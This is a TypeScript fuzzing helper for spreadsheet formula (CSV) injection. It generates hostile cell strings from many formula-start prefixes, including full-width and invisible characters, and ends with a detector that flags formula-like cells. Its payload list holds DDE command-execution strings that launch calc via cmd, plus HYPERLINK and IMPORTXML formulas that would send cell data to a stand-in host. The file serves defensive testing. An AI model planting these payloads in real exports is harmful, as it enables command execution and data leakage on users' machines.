// Texts made to run in a spreadsheet: a formula's beginning in every guise that is known (OWASP, CSV injection), then a payload.

const STARTS = [
  ...['=', '+', '-', '@', '\t=', '\r=', ' =', '==', '=-', '"=', "'=", ';=', ',=', '\n=', '|', '%', '+-', '@='],
  // The full-width signs of East Asian keyboards, blanks of other scripts, and what is not seen at all.
  ...[
    '＝',
    '＋',
    '－',
    '＠',
    '\u00a0=',
    '\u3000=',
    '\ufeff=',
    '\u2003+',
    '\u200b=',
    '\u202e=',
    '\u2028=',
    '\v=',
    '\f=',
    '\u0085=',
  ],
];
const BODIES = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x.test?"&A1;"a")',
  'SUM(A1:A9)',
  'å;ä,ö',
  '"";"',
  'DDE("cmd";"/C calc";"!A0")',
  'DDEAUTO c:\\windows\\system32\\cmd.exe',
  '1e9',
  'A1\r\n=B1',
  'A1\n\t=B1',
  '@SUM(1)',
  'WEBSERVICE("x")',
  'IMPORTXML("http://x.test";"//a")',
  "-2+3+cmd|' /C calc'!D2",
  '<f>1+1</f>]]>&amp;',
];

/** So many of them, each different. Mulberry32 by the seed. */
export function hostileStrings(count: number, seed: number): string[] {
  let state = seed >>> 0;
  const random = (): number => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
  const pick = (of: readonly string[]): string => of[Math.floor(random() * of.length)]!;
  return Array.from({ length: count }, (_, index) => `${pick(STARTS)}${pick(BODIES)} ${index}`);
}

/** What a spreadsheet would run: a cell that begins with one of these, blanks or not, and is no number. */
export const isFormula = (cell: string): boolean =>
  /^(\s*[=+\-@|%＝＋－＠]|[\t\r\n])/u.test(cell) && !/^[+-]?\d+([.,]\d+)?$/.test(cell);
